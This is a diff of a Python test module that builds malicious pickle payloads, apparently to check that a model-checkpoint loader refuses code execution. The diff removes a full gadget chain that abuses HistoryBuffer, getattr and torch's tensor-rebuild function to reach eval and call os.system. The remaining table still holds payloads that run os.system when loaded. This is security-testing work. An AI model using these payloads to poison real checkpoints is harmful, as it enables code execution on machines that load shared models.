@@ -53,7 +53,6 @@ class Program:
 
     def __init__(self) -> None:
         self.text = b'\x80\x02'
-        self.kept = 0
 
     def add(self, *parts: bytes | str) -> 'Program':
         """Appends operations; a text is a name to load: ``'module name'``."""
@@ -66,12 +65,6 @@ class Program:
         """Pushes a text."""
         data = text.encode()
         return self.add(b'X' + struct.pack('<I', len(data)) + data)
-
-    def keep(self) -> bytes:
-        """Remembers what is on top; returns the operation that fetches it."""
-        place, self.kept = bytes([self.kept]), self.kept + 1
-        self.add(b'q' + place)
-        return b'h' + place
 
     def end(self) -> bytes:
         """Returns the whole pickle."""
@@ -112,53 +105,10 @@ def _pickled(make: Callable[..., bytes], *arguments):
     return write
 
 
-def _poisoned_history(path: Path, mark: Path) -> None:
-    """Runs code through nothing but the names that mmengine's checkpoints have.
-
-    HistoryBuffer keeps what it is told among the statistics of its class, so that the
-    stand-in for getattr hands out ``__getattribute__``; torch's own rebuilding of tensors
-    calls whatever function it is given.
-    """
-    program = Program().add(b'(', _HISTORY)
-    history = program.keep()
-    program.add(b')\x81}').string('statistics_methods').add(b'}(')
-    for name in ('__getattribute__', '__class__'):
-        program.string(name).add(b'N')
-    program.add(b'usb')
-
-    def of_history(name: str) -> bytes:
-        program.add('__builtin__ getattr', history).string(name).add(b'\x86R')
-        return program.keep()
-
-    def call(function: bytes, kind: bytes, *arguments) -> bytes:
-        program.add('torch._tensor _rebuild_from_type_v2', b'(', function, kind, b'(')
-        for argument in arguments:
-            program.string(argument) if isinstance(argument, str) else program.add(argument)
-        program.add(b't}tR')
-        return program.keep()
-
-    get, type_ = of_history('__getattribute__'), of_history('__class__')
-    mean = of_history('mean')
-    program.add(b'}')
-    table = program.keep()
-    dict_ = call(get, type_, table, '__class__')
-    program.add('_codecs encode')
-    encode = program.keep()
-    builtin = call(get, type_, encode, '__class__')
-    names = call(get, dict_, mean, '__globals__')
-    builtins_ = call(call(get, builtin, names, '__getitem__'), dict_, '__builtins__')
-    evaluate = call(call(get, builtin, builtins_, '__getitem__'), builtin, 'eval')
-    program.add(b'K\x01')
-    one = program.keep()
-    call(evaluate, call(get, type_, one, '__class__'),
-         f'__import__("os").system({_touch(mark)!r})')
-    save_program(program.add(b't').end(), path)
-
-
-def _history_attributes() -> bytes:
-    """A history whose method ``mean`` is another function."""
+def _history_attributes(name: str) -> bytes:
+    """A history with an attribute that is a function, as one of its methods."""
     program = Program().add(b'}').string('message_hub').add(_HISTORY, b')\x81}')
-    return program.string('mean').add('torch._utils _rebuild_parameter', b'sbs').end()
+    return program.string(name).add('torch._utils _rebuild_parameter', b'sbs').end()
 
 
 def _array_of_pointers() -> bytes:
@@ -243,8 +193,9 @@ RUN_CODE = {
     'builtins.getattr': _saved(lambda mark: Call(getattr, OrderedDict, '__init__')),
     'functools.partial': _saved(lambda mark: functools.partial(os.system, _touch(mark))),
     'torch.serialization': _pickled(_call, 'torch.serialization load'),
-    'poisoned HistoryBuffer': _poisoned_history,
-    'attributes of HistoryBuffer': _pickled(_history_attributes),
+    'method of HistoryBuffer': _pickled(_history_attributes, 'mean'),
+    # The names that its getattr hands out.
+    'statistics of HistoryBuffer': _pickled(_history_attributes, 'statistics_methods'),
     'array of pointers': _pickled(_array_of_pointers),
     'array of objects': _saved(lambda mark: np.array([Call(os.system, _touch(mark))],
                                                      object)),
